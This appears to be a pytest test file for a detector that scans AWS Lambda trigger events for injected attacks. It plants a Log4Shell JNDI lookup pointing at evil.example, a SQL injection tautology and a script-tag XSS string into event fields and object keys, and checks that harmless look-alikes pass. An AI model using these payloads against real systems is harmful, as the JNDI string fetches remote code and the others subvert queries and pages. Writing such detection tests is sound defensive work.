"""Every trigger of Lambda: its events are harmless, and what an outsider put into them is found wherever it stands."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from trigger_rows import ROWS

from hauberk._native import Inspector, trigger

EVENTS = Path(__file__).parent / "events"
NAMES = sorted(file.stem for file in EVENTS.glob("*.json"))
# What the trigger of an event is called, where its file is called otherwise.
TRIGGERS = {
    "load-balancer-lists": "load-balancer",
    "lex-v1": "lex",
    "lex-v2": "lex",
    "self-managed-kafka": "kafka",
    "activemq": "mq",
    "rabbitmq": "mq",
    "eventbridge-s3": "eventbridge",
    "iot": "direct",
    "step-functions": "direct",
    "direct-text": "direct",
}
ATTACKS = {
    # detector              attack                                    harmless twin
    "log4shell": ("${jndi:ldap://evil.example/a}", "the price is $12 {plus shipping}"),
    "sql-injection": ("' OR '1'='1' -- ", "it's Ann's or Bob's - one of 11"),
    "cross-site-scripting": ("<script>alert(1)</script>", "a script: 1 < 2 (always)"),
}


def event_of(name: str) -> Any:
    return json.loads((EVENTS / f"{name}.json").read_text())


def put(event: Any, place: str, value: Any) -> Any:
    """`event` with `value` at a place like `Records.0.body`; a dot in a key has a backslash."""
    if not place:
        return value
    first, *rest = re.split(r"(?<!\\)\.", place, maxsplit=1)
    key: Any = int(first) if isinstance(event, list) else first.replace("\\.", ".")
    inner = event[key] if isinstance(event, list) else event.get(key)
    event[key] = put({} if inner is None else inner, rest[0], value) if rest else value
    return event


def inspected(event: Any) -> tuple[str, list[dict[str, Any]], int]:
    return Inspector().inspect(json.dumps(event).encode())


def row_name(row: Any) -> str:
    return f"{row[0]}:{row[3]}" if isinstance(row, tuple) else str(row)


@pytest.mark.parametrize("name", NAMES)
def test_an_event_as_its_trigger_sends_it_is_harmless_and_known(name):
    assert trigger(json.dumps(event_of(name)).encode()) == TRIGGERS.get(name, name)
    assert inspected(event_of(name)) == ("allow", [], 0)


@pytest.mark.parametrize("row", ROWS, ids=row_name)
@pytest.mark.parametrize("detector", ATTACKS)
def test_an_attack_is_found_wherever_it_hides_and_its_harmless_twin_is_not(row, detector):
    name, place, hides, path = row
    attack, twin = ATTACKS[detector]
    for hide in hides:
        attack, twin = hide(attack), hide(twin)
    verdict, detections, _ = inspected(put(event_of(name), place, attack))
    found = {(one["detector"], one["path"]) for one in detections}
    assert verdict != "allow"
    assert (detector, path) in found
    assert inspected(put(event_of(name), place, twin)) == ("allow", [], 0)


def test_every_event_is_attacked_and_every_row_is_there():
    assert {row[0] for row in ROWS} == set(NAMES)
    assert len(ROWS) == 118
    assert len({(name, place, *hides) for name, place, hides, _ in ROWS}) == 118


@pytest.mark.parametrize(
    ("place", "key", "path"),
    [
        ("detail", "${jndi:ldap://evil.example/a}", "detail#key"),
        ("detail.lines.0", "' OR '1'='1' -- ", "detail.lines[0]#key"),
    ],
)
def test_the_keys_of_objects_are_read_too(place, key, path):
    event = put(event_of("eventbridge"), f"{place}.extra", 1)
    holder = event["detail"] if place == "detail" else event["detail"]["lines"][0]
    holder[key] = holder.pop("extra")
    verdict, detections, _ = inspected(event)
    assert verdict == "block"
    assert [one["path"] for one in detections] == [path]
